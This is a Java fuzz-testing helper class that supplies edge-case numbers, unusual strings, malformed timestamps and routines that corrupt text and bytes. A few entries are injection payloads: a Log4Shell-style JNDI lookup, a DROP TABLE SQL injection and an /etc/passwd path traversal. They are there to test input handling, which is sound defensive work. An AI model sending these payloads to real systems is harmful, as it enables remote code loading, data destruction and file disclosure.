package dev.substation.fuzz;

import java.util.List;

/** Values that nobody would send on purpose, and slips of the pen in any text. */
final class Nasty {

    /** As written in JSON and in XML; some are no numbers in either. */
    static final List<String> NUMBERS =
            List.of(
                    "0",
                    "-0",
                    "-0.0",
                    "-1",
                    "1.0",
                    "1e0",
                    "0.000000000000000000000000000000001",
                    "2147483647",
                    "2147483648",
                    "-2147483649",
                    "4294967296",
                    "9007199254740993",
                    "9223372036854775807",
                    "9223372036854775808",
                    "-9223372036854775809",
                    "1e400",
                    "1e999999",
                    "-1e999999",
                    "1e-999999",
                    "1e2147483648",
                    "1e99999999999999999999",
                    "1E+2",
                    "NaN",
                    "Infinity",
                    "-Infinity",
                    "INF",
                    "007",
                    "+1",
                    ".5",
                    "5.",
                    "0x10",
                    "1_000",
                    "1,5",
                    "١٢٣",
                    "9".repeat(60),
                    "9".repeat(1_200),
                    "0." + "3".repeat(400),
                    "1" + "0".repeat(300) + "e-300");

    private static final List<String> TEXTS =
            List.of(
                    "",
                    " ",
                    "\t",
                    "null",
                    "true",
                    "Accepted",
                    "Invalid",
                    "\u0000",
                    "a\u0000b",
                    "\u0001\u0008\u001f",
                    "\u007f\u0085\u009f",
                    "two\r\nlines: yes",
                    "\u2028\u2029",
                    "\ud800",
                    "\udc00\ud800",
                    "\ufffe\uffff",
                    "\ufeff",
                    "\ud83d\udd0c",
                    "\u202e\u0661",
                    "Z\u00fcrich",
                    "%s%n%d{}",
                    "${jndi:ldap://10.0.0.9/a}",
                    "${body}",
                    "#{x}",
                    "'; DROP TABLE outbox; --",
                    "<x/>",
                    "]]>",
                    "&lt;&amp;",
                    "../../etc/passwd",
                    "\"\\",
                    "2026-13-45T99:99:99Z",
                    "2026-02-30T00:00:00Z",
                    "0000-00-00T00:00:00Z",
                    "+999999999-12-31T23:59:59Z",
                    "-1000000000-01-01T00:00:00Z",
                    "9999-12-31T23:59:59.999999999999Z",
                    "2026-01-01T24:00:00Z",
                    "2026-01-01T08:00:00+99:00",
                    "2026-01-01",
                    "1767254400",
                    "2016-12-31T23:59:60Z");

    private Nasty() {}

    static String number(Dice dice) {
        return dice.of(NUMBERS);
    }

    /** A text; seldom a very long one. */
    static String text(Dice dice) {
        return switch (dice.below(12)) {
            case 0 -> "x".repeat(dice.of(20, 21, 25, 26, 50, 51, 255, 256, 500, 501, 1_001));
            case 1 -> dice.oneIn(20) ? "y".repeat(dice.of(70_000, 300_000)) : "y".repeat(5_000);
            case 2 -> dice.of(NUMBERS);
            case 3 -> "\u00e4\u4e2d".repeat(dice.of(10, 13, 128));
            default -> dice.of(TEXTS);
        };
    }

    /** A slip: characters turned, lost, doubled, moved or cut off. */
    static String slip(Dice dice, String text) {
        if (text.isEmpty()) {
            return text(dice);
        }
        int at = dice.below(text.length());
        int end = Math.min(text.length(), at + 1 + dice.below(dice.of(1, 4, 40)));
        String head = text.substring(0, at);
        String piece = text.substring(at, end);
        String tail = text.substring(end);
        return switch (dice.below(9)) {
            case 0 -> head;
            case 1 -> head + tail;
            case 2 -> head + piece + piece + tail;
            case 3 ->
                    head
                            + piece.repeat(
                                    Math.min(dice.of(3, 50, 1_000), 1 + 200_000 / text.length()))
                            + tail;
            case 4 -> tail + head;
            case 5 ->
                    head + dice.of("<", ">", "&", "\"", "\\", "[", "]", "{", "}", ",", ":") + tail;
            case 6 -> head + (char) dice.below(0x10000) + tail;
            case 7 -> head + text(dice) + tail;
            default ->
                    head + (char) (text.charAt(at) ^ 1 << dice.below(7)) + text.substring(at + 1);
        };
    }

    /** Bytes turned, lost or doubled. */
    static byte[] slip(Dice dice, byte[] bytes) {
        if (bytes.length == 0) {
            return bytes;
        }
        byte[] broken = bytes.clone();
        for (int i = dice.of(1, 1, 2, 8); i > 0; i--) {
            broken[dice.below(broken.length)] = (byte) dice.below(256);
        }
        return dice.oneIn(4)
                ? java.util.Arrays.copyOf(broken, dice.below(broken.length + 1))
                : broken;
    }
}
